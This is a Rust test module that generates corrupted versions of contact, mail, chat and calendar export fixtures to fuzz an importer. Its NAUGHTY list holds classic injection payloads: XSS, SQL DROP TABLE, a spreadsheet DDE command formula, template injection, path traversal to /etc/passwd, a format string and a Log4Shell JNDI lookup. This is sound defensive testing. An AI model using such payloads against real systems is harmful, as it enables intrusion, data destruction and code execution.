//! The fixtures of every format, spoiled in the same few ways.

use super::Hostile;
use crate::files::fixture;

/// One file of every format and era that is worth spoiling.
const FILES: &[(&str, &str)] = &[
    ("mail/takeout.mbox", "mail.mbox"),
    ("mail/outlook.eml", "mail.eml"),
    ("vcard/four.vcf", "cards.vcf"),
    ("google/new.csv", "contacts.csv"),
    ("outlook/english-2003.csv", "outlook.csv"),
    ("linkedin/2026/Connections.csv", "Connections.csv"),
    ("linkedin/2025/messages.csv", "messages.csv"),
    ("whatsapp/iphone.txt", "chat.txt"),
    ("telegram/everything.json", "result.json"),
    ("slack/lens-makers/2024-01-15.json", "2024-01-15.json"),
    (
        "facebook/2025/your_facebook_activity/messages/inbox/zoealbright_1001/message_1.json",
        "message_1.json",
    ),
    ("calendar/google.ics", "calendar.ics"),
    ("monica/four.json", "monica.json"),
];

type Spoil = fn(Vec<u8>) -> Vec<u8>;

const WAYS: &[(&str, Spoil)] = &[
    ("cut off in the middle", |bytes| bytes[..bytes.len() / 2].to_vec()),
    ("zeroes strewn in", |bytes| strewn(bytes, b"\0")),
    ("bytes that are no text strewn in", |bytes| strewn(bytes, b"\xff\xfe\xc0\x80\xf8")),
    ("lone surrogates strewn in", |bytes| strewn(bytes, b"\xed\xa0\x80\\ud800")),
    ("letters that turn the line around", |bytes| {
        strewn(bytes, "\u{202e}\u{2066}\u{200f}".as_bytes())
    }),
    ("marks piled on letters", |bytes| strewn(bytes, "\u{0336}".repeat(200).as_bytes())),
    ("years 0 and 9999", |bytes| {
        let text = String::from_utf8_lossy(&bytes).replace("2024", "0000");
        text.replace("2023", "9999").replace("2025", "-001").into_bytes()
    }),
    ("every digit a nine", |bytes| {
        bytes.iter().map(|byte| if byte.is_ascii_digit() { b'9' } else { *byte }).collect()
    }),
    ("words for programs in every field", |bytes| {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        NAUGHTY.iter().fold(text, |text, naughty| text.replacen("Ada", naughty, 1)).into_bytes()
    }),
    ("lines turned around", |bytes| {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        text.lines().rev().collect::<Vec<_>>().join("\r").into_bytes()
    }),
    ("quotation marks and brackets doubled", |bytes| {
        let text = String::from_utf8_lossy(&bytes).replace('"', "\"\"\"").replace('{', "{{");
        text.replace('[', "[[").into_bytes()
    }),
];

/// From the lists by which programs are tried: words that mean something to one of them.
const NAUGHTY: &[&str] = &[
    "<script>alert(1)</script>",
    "'; DROP TABLE contact; --",
    "=cmd|' /C calc'!A0",
    "{{constructor.constructor('return 1')()}}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "${jndi:ldap://a.example/x}",
    "null",
    "NaN",
    "\u{feff}\u{202e}Ada",
    "Robert'); --",
    "javascript:alert(1)",
];

/// Puts something between the bytes, here and there.
fn strewn(bytes: Vec<u8>, what: &[u8]) -> Vec<u8> {
    let step = (bytes.len() / 17).max(1);
    bytes.chunks(step).flat_map(|chunk| [chunk, what].concat()).collect()
}

pub(super) fn all() -> Vec<Hostile> {
    let mut all = Vec::new();
    for (from, name) in FILES {
        for (how, spoil) in WAYS {
            let (from, spoil) = (*from, *spoil);
            all.push(Hostile::file(format!("{name}: {how}"), name, move || {
                spoil(std::fs::read(fixture(from)).unwrap_or_default())
            }));
        }
        all.push(Hostile::file(format!("{name}: nothing but its name"), name, Vec::new));
        all.push(Hostile::file(format!("{name}: chance"), name, || {
            let mut dice = crate::dice::Dice::new(9);
            (0..4_000).flat_map(|_| dice.roll().to_le_bytes()).collect()
        }));
    }
    all
}
